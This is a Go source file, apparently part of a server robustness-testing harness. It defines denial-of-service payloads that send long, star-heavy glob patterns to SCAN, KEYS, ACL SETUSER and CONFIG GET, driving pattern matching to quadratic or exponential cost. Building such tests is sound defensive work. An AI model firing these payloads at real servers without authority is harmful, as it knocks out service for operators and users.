package attack

import (
	"math/rand/v2"
	"strings"
	"time"
)

// globs match long keys with patterns of quadratic, or carelessly exponential, cost.
func globs() []Attack {
	quadratic := "*" + strings.Repeat("a", 2040) + "b"
	exponential := strings.Repeat("*a", 40) + "*b"
	return []Attack{
		{Name: "SCAN with a long pattern", Pause: 2 * time.Second, Payload: once(func() Batch {
			return command("SCAN", "0", "COUNT", "1000", "MATCH", quadratic)
		})},
		{Name: "KEYS with a long pattern", Pause: 2 * time.Second, Payload: once(func() Batch { return command("KEYS", quadratic) })},
		{Name: "EXEC of KEYS with a long pattern", Pause: 2 * time.Second, Payload: once(func() Batch {
			return inExec(1, func(int) []string { return []string{"KEYS", quadratic} })
		})},
		{Name: "SCAN and KEYS with many stars", Pause: 2 * time.Second, Payload: func(*rand.Rand) Batch {
			b := command("SCAN", "0", "COUNT", "1000", "MATCH", exponential)
			b.Add("KEYS", exponential)
			b.Add("ACL", "SETUSER", "pattern", "resetkeys", "~"+exponential)
			b.Add("CONFIG", "GET", exponential)
			return b
		}},
	}
}
